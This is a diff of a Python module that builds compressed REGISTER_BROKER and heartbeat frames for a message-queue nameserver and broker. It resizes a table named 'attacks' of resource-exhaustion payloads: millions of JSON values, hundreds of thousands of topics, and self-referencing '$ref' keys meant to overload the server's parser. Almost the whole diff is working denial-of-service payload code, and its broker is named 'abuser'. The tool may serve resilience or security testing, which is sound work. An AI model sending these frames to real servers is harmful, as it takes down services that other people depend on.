@@ -44,10 +44,13 @@ def _sized(data: bytes) -> bytes:
     return _INTEGER.pack(len(data)) + data
 
 
-def registration(servers: bytes = b"[]", topics: tuple[bytes, ...] = ()) -> bytes:
+def registration(servers: bytes = b"[]", topics: int = 0, attributes: bytes = b"{}") -> bytes:
     """A frame of REGISTER_BROKER (103), compressed."""
-    inside = _sized(b"") + _INTEGER.pack(len(topics)) + b"".join(map(_sized, topics))
-    body = zlib.compress(inside + _sized(servers) + _INTEGER.pack(0), 6)
+    inside = bytearray(_sized(b"") + _INTEGER.pack(topics))
+    for number in range(topics):
+        inside += _sized(b"abuse-topic-%d 4 4 6 SINGLE_TAG %b" % (number, attributes))
+    inside += _sized(servers) + _INTEGER.pack(0)
+    body = zlib.compress(inside, 6)
     fields = {
         "brokerName": "abuser", "brokerAddr": "127.0.0.1:1", "clusterName": "Abusers",
         "haServerAddr": "127.0.0.1:2", "brokerId": "0", "compressed": "true", "bodyCrc32": "0",
@@ -70,10 +73,6 @@ def _again(make: Callable[[], bytes]) -> Callable[[], Iterator[bytes]]:
 def _reference_keys(count: int) -> bytes:
     keys = [b'{"$ref":"$.%d"}:1' % at for at in range(count)]
     return b"{" + b",".join([*keys, *[b"%d:0" % at for at in range(count)]]) + b"}"
-
-
-def _topics(count: int, attributes: bytes = b"{}") -> tuple[bytes, ...]:
-    return tuple(b"abuse-topic-%d 4 4 6 SINGLE_TAG %b" % (at, attributes) for at in range(count))
 
 
 # ----------------------------------------------------------------------------------- requests
@@ -259,20 +258,20 @@ def attacks(batch_fields: dict[str, str]) -> dict[str, Attack]:
         "registration: 2.4 M odd values": (
             "nameserver", lambda: registration(b"{1:[" + b"1," * 2_400_000 + b"1]}")
         ),
-        "registration: 15 M texts": (
-            "nameserver", lambda: registration(b"[" + b'"",' * 15_000_000 + b'""]')
+        "registration: 5 M texts": (
+            "nameserver", lambda: registration(b"[" + b'"",' * 5_000_000 + b'""]')
         ),
         "registration: 20,000 keys by reference": (
             "nameserver", lambda: registration(_reference_keys(20_000))
         ),
         "registration: 100,000 topics": (
-            "nameserver", lambda: registration(topics=_topics(100_000))
+            "nameserver", lambda: registration(topics=100_000)
         ),
-        "registration: 1,200,000 topics": (
-            "nameserver", lambda: registration(topics=_topics(1_200_000))
+        "registration: 600,000 topics": (
+            "nameserver", lambda: registration(topics=600_000)
         ),
         "registration: topics with references": (
-            "nameserver", lambda: registration(topics=_topics(200_000, b'{"a":{"$ref":"$"}}'))
+            "nameserver", lambda: registration(b"[]", 200_000, b'{"a":{"$ref":"$"}}')
         ),
         "heartbeat: 65 KB of keys by reference": (
             "broker", lambda: _request(Code.HEART_BEAT, _reference_keys(2300))
